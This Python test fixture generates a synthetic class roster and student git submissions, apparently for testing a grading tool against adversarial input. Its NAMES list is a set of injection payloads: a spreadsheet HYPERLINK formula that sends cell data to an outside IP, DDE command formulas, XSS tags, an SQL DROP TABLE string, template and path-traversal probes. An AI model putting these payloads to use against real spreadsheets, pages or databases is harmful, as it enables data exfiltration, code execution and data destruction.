"""Writes the class: a roster with hostile names, and what everybody hands in, as people and tools leave it."""

from __future__ import annotations

import csv
import os
import random
import shutil
import subprocess
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import compose
from submissions import Edit
from synthetic.member import KEY, Kind, Member

SLUG = "m01-environment"
DEADLINE = datetime(2026, 10, 1, 18, tzinfo=UTC)
NAMES = (
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Ada")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3",
    "<script>alert('name')</script>",
    '"><img src=x onerror=alert(1)>',
    "Robert'); DROP TABLE attempts;--",
    "\u202eadA ecalevoL",
    'Ada "The Countess", Lovelace',
    "{{ 7*7 }} ${7*7} {% raw %}",
    "[click](javascript:alert(1)) | `code` | **x**",
    "\tTab, and \u200bnothing",
    "Zo\u00eb \u5c0f\u6797 \U0001f469\u200d\U0001f52c",
    "::error::name",
    "../../etc/passwd",
)


@dataclass(frozen=True)
class Class:
    """Where the class lies, and who is in it. seed: decides the order of the roster and who bears which name."""

    roster: Path
    submissions: Path
    deadline: datetime
    members: tuple[Member, ...]
    logins: dict[str, str]


def write(folder: Path, members: Sequence[Member], seed: int) -> Class:
    """Write `roster.csv` and `m01-environment-submissions/` into a folder."""
    dice = random.Random(seed)  # noqa: S311  # a class that can be made again
    submissions, drafts = folder / f"{SLUG}-submissions", folder / "drafts"
    submissions.mkdir(parents=True)
    models = {solved: _model(folder / f"model-{solved}", solved=solved) for solved in (False, True)}
    logins = {member.name: member.name if member.in_roster else "" for member in members}
    for member in members:
        project = drafts / f"{SLUG}-{member.name}"
        _commit_work(member, models[member.solved], project)
        (member.place or clone_of)(project, submissions)
        _set_traps(member, submissions / project.name)
        shutil.rmtree(project, ignore_errors=True)
    for model in models.values():
        shutil.rmtree(model)
    drafts.rmdir()
    roster = folder / "roster.csv"
    shuffled = dice.sample(list(members), len(members))
    _write_roster(
        roster, sorted(shuffled, key=_is_honest), dice
    )  # who attacks comes first, and the others where they were
    return Class(roster, submissions, DEADLINE, tuple(members), logins)


def clone_of(project: Path, folder: Path) -> Path:
    """What `gh classroom clone student-repos` leaves: a clone with its work tree. The project is moved there."""
    place = folder / project.name
    project.rename(place)
    return place


def commit(project: Path, at: datetime, message: str) -> None:
    """Commit all that is there at that time, without a look at the repository's own settings."""
    date = at.isoformat()
    person = {
        f"GIT_{role}_{key}": f"student@{key.lower()}.example"
        for role in ("AUTHOR", "COMMITTER")
        for key in ("NAME", "EMAIL")
    }
    own = {
        "GIT_AUTHOR_DATE": date,
        "GIT_COMMITTER_DATE": date,
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    safe = ("-c", f"core.hooksPath={os.devnull}", "-c", "core.fsmonitor=false", "-c", "core.autocrlf=false")
    for words in (("add", "--all", "."), ("commit", "--quiet", "--allow-empty", "--no-verify", "--message", message)):
        subprocess.run(["git", *safe, "-C", str(project), *words], env={**os.environ, **person, **own}, check=True)


def _model(folder: Path, *, solved: bool) -> Path:
    """The starter with its first commit, or on top of it, not committed yet, the reference."""
    compose.fill(folder, KEY, compose.Answers("noshow", "Student"))
    subprocess.run(["git", "-C", str(folder), "init", "--quiet", "--initial-branch=main"], check=True)
    commit(folder, DEADLINE - timedelta(days=14), "Start")
    if solved:
        compose.fill(folder, KEY, compose.Answers("noshow", "Student"), solved=True)
    return folder


def _commit_work(member: Member, model: Path, project: Path) -> None:
    """The member's work before the deadline, and after it."""
    shutil.copytree(model, project, symlinks=True)
    _do(member.edits, project)
    commit(project, DEADLINE - timedelta(days=1), f"Work of {member.name}")
    for after, edits in member.later:
        _do(edits, project)
        commit(project, DEADLINE + after, "More")


def _do(edits: Sequence[Edit], project: Path) -> None:
    for edit in edits:
        edit(project)


def _set_traps(member: Member, clone: Path) -> None:
    if member.traps:
        _do(member.traps, clone)


def _write_roster(path: Path, members: Sequence[Member], dice: random.Random) -> None:
    """The columns of Classroom 50's roster, as a spreadsheet saves them: with a byte order mark."""
    names = _names(dice)
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("username", "first_name", "last_name", "email", "section", "github_id", "role"))
        for number, member in enumerate(members, start=1):
            login = member.name if member.in_roster else ""
            writer.writerow(
                (login, next(names), f"Student {number}", f"s{number}@example.org", "A", 1000 + number, "student")
            )


def _is_honest(member: Member) -> bool:
    return member.kind not in (Kind.CHEAT, Kind.HOSTILE)


def _names(dice: random.Random) -> Iterator[str]:
    """Every hostile name, again and again, in another order each time."""
    while True:
        yield from dice.sample(NAMES, len(NAMES))
